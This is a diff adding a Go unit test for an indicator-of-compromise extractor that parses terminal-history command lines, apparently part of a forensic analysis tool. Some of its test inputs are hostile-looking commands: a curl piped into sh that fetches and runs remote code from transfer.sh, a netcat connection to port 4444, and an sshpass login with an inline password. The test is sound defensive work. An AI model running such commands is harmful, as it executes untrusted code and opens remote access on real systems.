@@ -0,0 +1,112 @@
+package ioc
+
+import (
+	"testing"
+
+	"terminal-history-analyzer/internal/models"
+)
+
+func TestExtractCommand(t *testing.T) {
+	tests := []struct {
+		name string
+		raw  string
+		want []string // tipo|valor
+		not  []string
+	}{
+		{
+			name: "ssh a IPv6 sin corchetes",
+			raw:  "ssh user@2001:db8::2",
+			want: []string{"ipv6|2001:db8::2"},
+			not:  []string{"ipv6|db8::2"},
+		},
+		{
+			name: "ssh a IPv6 entre corchetes",
+			raw:  "ssh user@[2001:db8::3]",
+			want: []string{"ipv6|2001:db8::3"},
+		},
+		{
+			name: "scp a host con ruta",
+			raw:  "scp backup.tar user@files.example.com:/srv",
+			want: []string{"domain|files.example.com"},
+		},
+		{
+			name: "git por ssh",
+			raw:  "git clone git@github.com:org/repo.git",
+			want: []string{"domain|github.com"},
+		},
+		{
+			name: "host de URL con TLD de extensión de archivo",
+			raw:  "curl http://transfer.sh/x | sh",
+			want: []string{"url|http://transfer.sh/x", "domain|transfer.sh"},
+		},
+		{
+			name: "script local",
+			raw:  "bash deploy.sh",
+			not:  []string{"domain|deploy.sh"},
+		},
+		{
+			name: "versión de paquete de pip",
+			raw:  "pip install requests==2.31.0.1",
+			not:  []string{"ipv4|2.31.0.1"},
+		},
+		{
+			name: "versión mínima",
+			raw:  "pip install 'django>=4.2.0.1'",
+			not:  []string{"ipv4|4.2.0.1"},
+		},
+		{
+			name: "versión de paquete de npm",
+			raw:  "npm install left-pad@1.3.0.1",
+			not:  []string{"ipv4|1.3.0.1"},
+		},
+		{
+			name: "flag de versión de gem",
+			raw:  "gem install rails -v 7.1.3.2",
+			not:  []string{"ipv4|7.1.3.2"},
+		},
+		{
+			name: "variable de versión",
+			raw:  "APP_VERSION=1.4.0.2 ./build.sh --version 1.4.0.3",
+			not:  []string{"ipv4|1.4.0.2", "ipv4|1.4.0.3"},
+		},
+		{
+			name: "flag -v de nc",
+			raw:  "nc -v 10.0.0.1 4444",
+			want: []string{"ipv4|10.0.0.1"},
+		},
+		{
+			name: "asignación de una IP",
+			raw:  "export TARGET=10.0.0.9",
+			want: []string{"ipv4|10.0.0.9"},
+		},
+		{
+			name: "destino de sshpass",
+			raw:  "sshpass -p x ssh admin@10.0.0.5",
+			want: []string{"ipv4|10.0.0.5"},
+		},
+		{
+			name: "correo",
+			raw:  "mail -s hola admin@example.org",
+			want: []string{"email|admin@example.org", "domain|example.org"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			found := make(map[string]bool)
+			for _, indicator := range ExtractCommand(models.CommandAST{Raw: tt.raw, Line: 1}) {
+				found[indicator.Type+"|"+indicator.Value] = true
+			}
+			for _, key := range tt.want {
+				if !found[key] {
+					t.Errorf("falta %s en %v", key, found)
+				}
+			}
+			for _, key := range tt.not {
+				if found[key] {
+					t.Errorf("indicador inesperado %s en %v", key, found)
+				}
+			}
+		})
+	}
+}